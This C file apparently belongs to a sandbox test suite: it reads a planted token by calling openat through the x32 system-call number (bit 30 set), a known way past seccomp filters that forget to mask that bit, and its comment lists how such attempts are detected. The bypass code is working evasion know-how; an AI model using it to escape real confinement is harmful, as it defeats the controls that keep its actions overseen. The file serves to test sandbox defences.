// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Opens the token by the x32 ABI: the number of openat with bit 30 set.
 * Known from: seccomp filters that compare numbers and forget __X32_SYSCALL_BIT (seccomp(2) warns).
 * First: odd doors (numbers with the x32 bit)
 * Second: fanotify on the planted inode, where the kernel has x32 at all
 */
#include "trick.h"

int main(void)
{
	long fd = syscall(0x40000000 | SYS_openat, AT_FDCWD, TOKEN, O_RDONLY);

	if (fd < 0)
		blocked();
	read_token(fd);
}
